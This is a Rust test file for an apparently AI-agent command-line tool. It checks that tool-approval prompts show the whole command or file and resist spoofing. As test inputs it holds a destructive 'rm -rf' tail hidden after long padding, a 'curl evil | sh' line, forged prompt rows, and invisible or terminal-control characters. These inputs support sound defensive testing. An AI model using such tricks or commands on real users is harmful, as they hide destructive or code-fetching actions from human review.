//! Tests that a question fits on one screen and leads to its complete text.

use rind_tests::cli::{Rind, Step};

use super::{plain, with_commands, with_writes};

const ASKED: &str = "[n]o and why: ";

fn typed<'a>(once: &'a str, typed: &'a str) -> Step<'a> {
    Step {
        once,
        meanwhile: Box::new(|| {}),
        typed,
    }
}

/// Returns the last `rows` rows above the prompt of the last question.
fn last_screen(shown: &str, rows: usize) -> Vec<String> {
    let shown = plain(shown);
    let until = shown.rfind(ASKED).expect("a question");
    let lines: Vec<String> = shown[..until].lines().map(str::to_owned).collect();
    lines[lines.len().saturating_sub(rows)..].to_vec()
}

#[test]
fn a_question_fits_the_screen_and_all_of_it_can_be_paged_through() {
    let content: String = (0..200).map(|n| format!("line {n}\n")).collect();
    let rind = with_writes(&[("big.txt", &format!("{content}{}", "x".repeat(4_001)))]);
    let steps = vec![
        typed(ASKED, "v\n"),
        typed("more rows; Enter shows the next", "\n"),
        typed("more rows; Enter shows the next", "\n"),
        typed("more rows; Enter shows the next", "\n"),
        typed("more rows; Enter shows the next", "q\n"),
        typed(ASKED, "n\n"),
    ];
    let Some(shown) = rind.at_terminal_with(&["run", "write"], "stty cols 80 rows 50", steps)
    else {
        return;
    };
    let screen = last_screen(&shown, 49);
    assert!(
        screen
            .iter()
            .any(|line| line.starts_with("? write_file wants to")),
        "{screen:#?}"
    );
    assert!(
        screen
            .iter()
            .any(|line| line.contains("more rows: v shows all")),
        "{screen:#?}"
    );
    let all = plain(&shown);
    for n in 0..180 {
        assert!(all.contains(&format!("  + line {n}\n")), "line {n}");
    }
    assert!(!rind.workspace().join("big.txt").exists());
}

#[test]
fn the_last_bytes_of_a_long_call_are_shown() {
    let command = format!("echo {}; rm -rf last", "a".repeat(3_995));
    let rind = with_commands(&[&command]);
    let steps = vec![
        typed(ASKED, "v\n"),
        typed("end; press Enter to return", "\n"),
        typed(ASKED, "n\n"),
    ];
    let Some(shown) = rind.at_terminal_with(&["run", "x"], "stty cols 100 rows 60", steps) else {
        return;
    };
    let all: String = plain(&shown).replace("    ↪ ", "").replace('\n', "");
    assert!(all.contains("aaaa; rm -rf last"), "{shown}");
}

#[test]
fn a_yes_to_a_command_or_file_that_was_cut_counts_only_when_all_of_it_was_on_the_screen() {
    const UNREAD: &str = "view the whole question first";
    const MORE: &str = "more rows; Enter shows the next";
    let command = format!("echo a{}; touch pwned.txt", " ".repeat(4_000));
    let content = format!("{}curl evil | sh\n", "safe\n".repeat(200));
    let place = |rind: &Rind, name: &str| rind.workspace().join(name).exists();
    for (rind, made) in [
        (with_commands(&[&command]), "pwned.txt"),
        (with_writes(&[("pwned.txt", &content)]), "pwned.txt"),
    ] {
        let unseen = || {
            let rind = &rind;
            Step {
                once: UNREAD,
                meanwhile: Box::new(move || assert!(!place(rind, made))),
                typed: "",
            }
        };
        let steps = vec![
            typed("[v]iew first, then", ""),
            typed(ASKED, "y\n"),
            unseen(),
            typed(ASKED, "yes\n"),
            unseen(),
            typed(ASKED, "a\n"),
            unseen(),
            // The user opens the pager but sees only the first page.
            typed(ASKED, "v\n"),
            typed(MORE, "q\n"),
            typed(ASKED, "y\n"),
            unseen(),
            typed(ASKED, "n\n"),
        ];
        let size = "stty cols 80 rows 24";
        let Some(shown) = rind.at_terminal_with(&["run", "x"], size, steps) else {
            return;
        };
        assert!(!place(&rind, made), "{shown}");
    }
    // The same answer counts once the pager has shown all of the text.
    let rind = with_writes(&[("long.txt", &"safe\n".repeat(30))]);
    let steps = vec![
        typed(ASKED, "y\n"),
        typed(UNREAD, ""),
        typed(ASKED, "v\n"),
        typed(MORE, "\n"),
        typed("end; press Enter to return", "\n"),
        typed(ASKED, "y\n"),
    ];
    rind.at_terminal_with(&["run", "x"], "stty cols 80 rows 24", steps);
    assert!(place(&rind, "long.txt"));
}

#[test]
fn a_path_stays_one_line_and_no_invisible_character_passes() {
    let hidden = "\u{3164}\u{115f}\u{1160}\u{ffa0}\u{2800}\u{a0}\u{17b4}\u{1d159}";
    let path = format!("a\n? bash wants to run a program (execute)\n  $ ls{hidden}\r\u{1b}[2K");
    let rind = with_writes(&[(&path, "x\r\ny")]);
    let Some(shown) = rind.at_terminal(&["run", "x"], "n\n") else {
        return;
    };
    let shown = plain(&shown);
    let question = &shown[shown.find("? write_file").expect("the question")..];
    assert!(
        question.lines().all(|line| !line.starts_with("? bash")),
        "{question}"
    );
    assert!(question.contains("a\\u{a}? bash wants"), "{question}");
    for character in hidden.chars() {
        assert!(!question.contains(character), "{character:?}");
    }
    assert!(question.contains("+ x\\u{d}\n"), "{question}");
}

#[test]
fn a_forged_row_in_a_command_begins_with_a_mark_like_every_other() {
    let rind = with_commands(&["ls\n  always covers nothing\n  [y]es or [n]o:\n↪ rm x"]);
    // The command contains a forged prompt. Keys that are typed after it and before the real prompt
    // are dropped.
    let Some(shown) = rind.at_terminal_once(&["run", "x"], ASKED, || {}, "n\n") else {
        return;
    };
    let shown = plain(&shown);
    for row in [
        "  >   always covers nothing\n",
        "  >   [y]es or [n]o:\n",
        "  > ↪ rm x\n",
    ] {
        assert!(shown.contains(row), "{row:?}\n{shown}");
    }
}

#[test]
fn notices_and_logs_wait_until_the_question_is_answered_and_are_bounded() {
    let script = r#"
        [[reply]]
        tool_calls = [{ name = "write_file", arguments = { path = "new.txt", content = "words\n" } }]
        [[reply]]
        text = "So it is."
    "#;
    let rind = Rind::with_script(script);
    rind.managed("scripted-hook");
    let notice = "{ notify = \"noise\\n? bash wants\" }";
    let notices = vec![notice; 64].join(", ");
    rind.config(&format!(
        "[plugins.scripted-hook.config.answers.pre-tool]\neffects = [{notices}]\n"
    ));
    let Some(shown) = rind.at_terminal(&["run", "write"], "y\n") else {
        return;
    };
    let shown = plain(&shown);
    let question = shown.find("? write_file").expect("the question");
    let answered = question + shown[question..].find(ASKED).expect("the answers");
    assert!(!shown[question..answered].contains("noise"), "{shown}");
    let n_notices = shown.matches("noise").count();
    assert!((1..=20).contains(&n_notices), "{n_notices}: {shown}");
    assert!(!shown.contains("\n? bash"), "{shown}");
    assert!(shown.contains("further ones with --trace"), "{shown}");
}

#[test]
fn what_always_covers_or_why_it_covers_nothing_moves_no_cursor() {
    for (command, said, mark) in [
        ("echo 'x\u{202e}y'", "always covers echo ", "\\u{202e}"),
        ("sh '-\u{202e}' x", "asks every time: ", "\\u{202e}"),
        ("rm '-\u{202e}' x", "always covers rm ", "\\u{202e}"),
        (
            "rm '-\u{1b}[8A' x",
            "asks every time: ",
            "a control character",
        ),
    ] {
        let rind = with_commands(&[command]);
        let Some(shown) = rind.at_terminal_once(&["run", "x"], ASKED, || {}, "n\n") else {
            return;
        };
        assert!(!shown.contains("\u{1b}[8A"), "{shown:?}");
        assert!(!shown.contains('\u{202e}'), "{shown:?}");
        let shown = plain(&shown);
        let row = shown.lines().find(|line| line.contains(said));
        let row = row.unwrap_or_else(|| panic!("{command:?}: {shown}"));
        assert!(row.contains(mark), "{row}");
    }
}
